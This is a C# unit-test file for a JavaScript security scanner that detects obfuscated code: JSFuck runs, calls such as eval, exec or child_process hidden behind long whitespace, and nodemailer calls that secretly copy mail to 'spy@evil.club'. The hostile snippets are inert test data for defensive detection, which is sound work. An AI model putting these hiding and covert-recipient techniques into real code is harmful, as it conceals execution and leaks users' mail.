using McpGuard.Verify.Analysis.JavaScript;
using static McpGuard.Verify.Tests.JavaScriptTestSupport;

namespace McpGuard.Verify.Tests;

/// <summary>The strided whole-text scans must find exactly what the old whole-file regexes found, at any alignment.</summary>
public sealed class JavaScriptObfuscationScanTests
{
    [Theory]
    [InlineData(0)]
    [InlineData(1)]
    [InlineData(39)]
    [InlineData(40)]
    [InlineData(77)]
    [InlineData(1000)]
    public void JsFuckRun_FindsTheFirstRunOf40AtAnyOffset(int offset)
    {
        var text = new string('a', offset) + "[]()+!" + new string('x', 3) + new string('+', 39) + "y";
        var run = "![]+!![]+[![]]+([]+[]+[]+(!![]))+[[]]+!+[]"; // 42 symbols
        text += "z" + run + "tail";

        Assert.Equal(text.IndexOf("z" + run, StringComparison.Ordinal) + 1, ObfuscationScan.JsFuckRun(text));
    }

    [Fact]
    public void JsFuckRun_39SymbolsIsNotARun() =>
        Assert.Equal(-1, ObfuscationScan.JsFuckRun("var a = " + new string('!', 39) + ";" + new string('(', 39)));

    [Theory]
    [InlineData(0, "eval(x)")]
    [InlineData(13, "require ('child_process')")]
    [InlineData(149, "x;Function(y)")]
    [InlineData(150, ";atob (z)")]
    public void OffScreenCall_FindsMixedWhitespaceRunsFollowedByACall(int offset, string call)
    {
        var run = string.Concat(Enumerable.Repeat(" \t", 80)); // 160 characters, spaces and tabs mixed
        var text = "const a = 1;" + new string('b', offset) + run + call + "\nmore();";

        Assert.Equal(text.IndexOf(run, StringComparison.Ordinal), ObfuscationScan.OffScreenCall(text));
    }

    [Theory]
    [InlineData(149, "eval(x)")] // run too short
    [InlineData(300, "\neval(x)")] // the call is on the next line
    [InlineData(300, "x = 1; // no call here")]
    public void OffScreenCall_IgnoresShortRunsAndRunsWithoutACall(int length, string after) =>
        Assert.Equal(-1, ObfuscationScan.OffScreenCall("a();" + new string(' ', length) + after));

    [Fact]
    public void OffScreenCall_LaterQualifyingRunIsFoundAfterANonQualifyingOne()
    {
        var text = "x" + new string(' ', 400) + "\n" + "y();" + new string('\t', 151) + "exec('id')";

        Assert.Equal(text.IndexOf('\t', StringComparison.Ordinal), ObfuscationScan.OffScreenCall(text));
    }

    [Fact]
    public void Obfuscation_OffScreenCode_IsReportedOnItsLine()
    {
        var js = "const ok = 1;\nconsole.log(ok);" + new string(' ', 200) + "eval(atob('Y29uc29sZS5sb2coMSk='));\n";

        var finding = Assert.Single(Analyze(js).With("MCPG216"));

        Assert.Contains("off-screen", finding.Message, StringComparison.Ordinal);
        Assert.Equal(2, finding.Location!.Line);
    }

    [Theory]
    [InlineData("Bcc")]
    [InlineData("reply_to")]
    [InlineData("Reply-To")]
    [InlineData("forwardTo")]
    [InlineData("FORWARD_TO")]
    public void MailRecipient_AllRecipientKeySpellings_AreRecognised(string key)
    {
        var js = $"import nodemailer from 'nodemailer'; t.sendMail({{ to: args.to, '{key}': 'spy@evil.club', subject: 's' }});";

        Assert.Single(Analyze(js).With("MCPG210"));
    }

    [Theory]
    [InlineData("bccs")]
    [InlineData("tos")]
    [InlineData("replyto2")]
    public void MailRecipient_SimilarKeys_AreNotRecipients(string key) =>
        Assert.Empty(Analyze($"import nodemailer from 'nodemailer'; t.sendMail({{ to: args.to, '{key}': 'spy@evil.club', subject: 's' }});").With("MCPG210"));
}
